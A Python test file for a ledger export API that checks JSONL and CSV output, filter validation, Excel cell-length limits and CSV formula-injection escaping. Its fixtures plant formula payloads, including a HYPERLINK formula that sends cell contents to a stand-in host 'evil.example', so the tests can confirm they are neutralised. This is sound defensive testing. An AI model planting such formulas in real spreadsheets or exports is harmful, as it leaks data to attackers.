"""The ledger export: the list's filters for both formats (a bad one a 422 before any
streaming), JSONL as the complete entry documents, and a flat, spreadsheet-safe CSV: numeric
cost columns, no cell over Excel's 32,767 characters, released rows left to JSONL, text cells
protected against formula injection."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import httpx
import pytest

from api import ledger_csv
from api.ledger_csv import COLUMNS, MAX_CELL
from db import ledger, releases
from db.engine import Database
from tests.conftest import Service
from tests.factories import MUNICIPALITIES, events_metadata, write_events
from tests.support.api import VISITORS, all_entries, analyst

PROBLEM = "application/problem+json"
MANY_KEYS = [f"GMX-{i:07d}-ab" for i in range(2300)]
"""Declared municipalities: the registration's details exceed a cell; a release by
municipality has 2,306 rows, still copied into its ``release_output`` entry."""
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _jsonl(client: httpx.Client, **params: Any) -> list[dict[str, Any]]:
    response = client.get("/v1/ledger/export", params={**params, "format": "jsonl"})
    assert response.status_code == 200, response.text
    return [json.loads(line) for line in response.text.splitlines() if line]


def _csv(client: httpx.Client, **params: Any) -> list[dict[str, str]]:
    response = client.get("/v1/ledger/export", params={**params, "format": "csv"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert "ruis-ledger.csv" in response.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    assert rows[0] == list(COLUMNS)
    assert all(len(row) == len(COLUMNS) for row in rows)
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]


def _populate(server: Service, admin: httpx.Client) -> None:
    """A dataset with thousands of declared keys, releases under pure DP (one of
    2,306 rows) and zCDP, a refusal, and two entries with formula-like text."""
    write_events(server.settings.data_dir)
    columns = events_metadata()["columns"]
    columns["municipality"]["keys"] = MUNICIPALITIES + MANY_KEYS
    created = admin.post("/v1/datasets", json=events_metadata(columns=columns))
    assert created.status_code == 201, created.text
    ana = analyst(server, admin, "ana", amount=1.0)
    bob = analyst(server, admin, "bob", model="zcdp", amount=1.0)
    for client, query in (
        (ana, {**VISITORS, "privacy": {"epsilon": 0.5}}),
        (ana, {**VISITORS, "group_by": ["day"], "privacy": {"epsilon": 0.25}}),
        (bob, {**VISITORS, "privacy": {"rho": 0.125}}),
    ):
        response = client.post("/v1/queries", json=query)
        assert response.status_code == 200, response.text
    refused = ana.post("/v1/queries", json={**VISITORS, "privacy": {"epsilon": 5}})
    assert refused.status_code == 409, refused.text
    # A request id an API client chose, starting like a formula.
    response = admin.post(
        "/v1/consumers",
        json={"name": "cyd", "role": "auditor"},
        headers={"X-Request-ID": "-2-cmd"},
    )
    assert response.status_code == 201, response.text
    database = Database(server.settings.database_url)
    try:  # text no API path stores today, but an export must never turn into a formula
        with database.write() as session:
            ledger.append(
                session,
                kind="refused",
                actor="ana",
                consumer="ana",
                dataset="events",
                cost={"model": "pure", "epsilon": 0},
                details={"reason": INJECTION, "release_id": "@SUM(A1:A9)", "status": "\tx"},
            )
    finally:
        database.dispose()


def test_csv_is_flat_and_fits_a_spreadsheet(server: Service, admin: httpx.Client) -> None:
    _populate(server, admin)
    documents = _jsonl(admin)
    assert documents == all_entries(admin)  # JSONL: the complete documents
    assert all(ledger.compute_hash(d) == d["hash"] for d in documents)
    rows = _csv(admin)
    assert [int(r["seq"]) for r in rows] == [d["seq"] for d in documents]  # one row per entry
    for record, document in zip(rows, documents, strict=True):
        assert all(len(cell) <= MAX_CELL for cell in record.values()), document["seq"]
        cost = document["cost"] or {}
        for unit in ("epsilon", "rho"):
            if unit in cost:
                assert float(record[unit]) == cost[unit]
            else:
                assert record[unit] == ""
        assert record["model"] == cost.get("model", "")
        assert record["key_id"] == (document.get("key_id") or "")
        for field in ("time", "kind", "actor", "prev_hash", "hash"):
            assert record[field] == document[field]
        assert record["request_id"] in (document["request_id"] or "", "'" + "-2-cmd")

    by_kind: dict[str, list[tuple[dict[str, str], dict[str, Any]]]] = {}
    for record, document in zip(rows, documents, strict=True):
        by_kind.setdefault(document["kind"], []).append((record, document))
    # The registration's details (thousands of keys) are cut to fit a cell.
    [(registered, document)] = by_kind["dataset_registered"]
    assert len(ledger.canonical_json(document["details"])) > MAX_CELL
    assert registered["details_complete"] == "false"
    assert len(registered["details"]) == MAX_CELL
    assert ledger.canonical_json(document["details"]).startswith(registered["details"])
    # Releases: numeric cost, the mechanism's columns; the large one's rows are in JSONL.
    released = by_kind["release"]
    assert [(r["model"], r["epsilon"], r["rho"]) for r, _ in released] == [
        ("pure", "0.5", ""),
        ("pure", "0.25", ""),
        ("zcdp", "", "0.125"),
    ]
    for record, document in released:
        assert record["release_id"] == document["details"]["release_id"]
        assert record["statistic"] == "unit_count"
        assert record["mechanism"] == document["details"]["mechanism"]
        assert float(record["noise_scale"]) == document["details"]["noise_scale"]
        assert record["details_complete"] == "true"
        assert json.loads(record["details"]) == document["details"]
    outputs = by_kind["release_output"]
    assert len(outputs) == 3
    big_record, big_document = outputs[0]
    rows_json = ledger.canonical_json(big_document["details"]["rows"])
    assert len(rows_json) > MAX_CELL  # too long for a cell, short enough to stay in the ledger
    assert len(rows_json.encode()) <= releases.LEDGER_ROWS_MAX_BYTES
    assert big_record["rows_released"] == str(len(MUNICIPALITIES + MANY_KEYS))
    for record, document in outputs:
        details = dict(document["details"])
        assert int(record["rows_released"]) == len(details.pop("rows"))
        assert json.loads(record["details"]) == details  # all but the released rows
        assert record["details_complete"] == "true"
        assert record["status"] == "done"
        assert record["release_id"] == details["release_id"]
    # The refusal: charged nothing, with its reason.
    refusal, document = by_kind["refused"][0]
    assert (refusal["epsilon"], refusal["reason"]) == ("0", "budget")
    assert document["details"]["asked"] == {"epsilon": 5, "model": "pure"}


def test_formula_like_text_is_prefixed_but_numbers_are_not(
    server: Service, admin: httpx.Client
) -> None:
    _populate(server, admin)
    rows = _csv(admin)
    [created] = [r for r in rows if r["kind"] == "consumer_created" and "cyd" in r["consumer"]]
    assert created["request_id"] == "'-2-cmd"
    forged = rows[-1]
    assert forged["reason"] == "'" + INJECTION
    assert forged["release_id"] == "'@SUM(A1:A9)"
    assert forged["status"] == "'\tx"
    assert forged["epsilon"] == "0"
    for record in rows:
        for column, cell in record.items():
            if column not in ledger_csv.NUMERIC:
                assert not cell.startswith(ledger_csv.FORMULA_STARTS), (column, cell)
            elif cell:
                float(cell)  # a plain number
    # The JSONL export is the entries as they are.
    assert _jsonl(admin)[-1]["details"]["reason"] == INJECTION


def test_filters_select_what_the_list_selects(server: Service, admin: httpx.Client) -> None:
    _populate(server, admin)
    entries = all_entries(admin)
    first, middle, last = entries[0], entries[len(entries) // 2], entries[-1]
    cases: list[dict[str, str]] = [
        {},
        {"consumer": "ana"},
        {"consumer": "bob"},
        {"consumer": "nobody"},
        {"dataset": "events"},
        {"kind": "release"},
        {"kind": "refused", "consumer": "ana", "dataset": "events"},
        {"since": middle["time"]},
        {"until": middle["time"]},
        {"since": middle["time"], "until": last["time"]},
        {"since": first["time"][:10], "until": last["time"][:10]},
        {"until": first["time"][:10] + "T00:00:00Z"},
        {"consumer": "ana", "kind": "release", "since": middle["time"]},
    ]
    for params in cases:
        listed = all_entries(admin, **params)
        assert _jsonl(admin, **params) == listed, params
        assert [int(r["seq"]) for r in _csv(admin, **params)] == [e["seq"] for e in listed]
    assert len(all_entries(admin, kind="release")) == 3


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_bad_filters_are_a_problem_before_streaming(admin: httpx.Client, fmt: str) -> None:
    for params in (
        {"kind": "nope"},
        {"kind": "RELEASE"},
        {"since": "yesterday"},
        {"since": "0001-01-01T00:00:00+01:00"},
        {"until": "2026-02-30"},
        {"until": "12:00"},
        {"consumer": "x" * 65},
        {"dataset": "x" * 65},
        {"format": "xlsx"},
    ):
        response = admin.get("/v1/ledger/export", params={"format": fmt, **params})
        assert response.status_code == 422, (params, response.text)
        assert response.headers["content-type"] == PROBLEM
        assert response.json()["status"] == 422


def test_cells_are_cut_by_utf16_units_and_never_inside_a_character() -> None:
    text = "a" + "😀" * MAX_CELL  # each emoji: two UTF-16 code units, as Excel counts
    cell, whole = ledger_csv.cut(text)
    assert not whole
    assert cell == "a" + "😀" * ((MAX_CELL - 1) // 2)
    assert len(cell.encode("utf-16-le")) // 2 <= MAX_CELL
    assert ledger_csv.cut("ü" * MAX_CELL) == ("ü" * MAX_CELL, True)
    assert ledger_csv.cut("ü" * (MAX_CELL + 1))[1] is False
    prefixed, whole = ledger_csv.text_cell("=" * (MAX_CELL + 5))
    assert (len(prefixed), prefixed[0], whole) == (MAX_CELL, "'", False)


def test_numeric_cells_are_plain_numbers_only() -> None:
    assert [ledger_csv.number_cell(v) for v in (0, -0.5, 1e-09, 0.1, 3)] == [
        "0",
        "-0.5",
        "1e-09",
        "0.1",
        "3",
    ]
    assert [ledger_csv.number_cell(v) for v in (None, True, "=1", "1", [1])] == [""] * 5
    document = {
        "seq": 7,
        "kind": "release",
        "cost": {"model": "pure", "epsilon": 0.5},
        "details": {"noise_scale": -1.5, "key_selection": {"threshold": 9, "delta": 1e-07}},
    }
    record = dict(zip(COLUMNS, ledger_csv.row(document), strict=True))
    assert (record["epsilon"], record["noise_scale"], record["delta"]) == ("0.5", "-1.5", "1e-07")
    assert (record["rho"], record["key_id"], record["consumer"]) == ("", "", "")
    assert ledger_csv.row({**document, "key_id": "key_abc"})[COLUMNS.index("key_id")] == "key_abc"
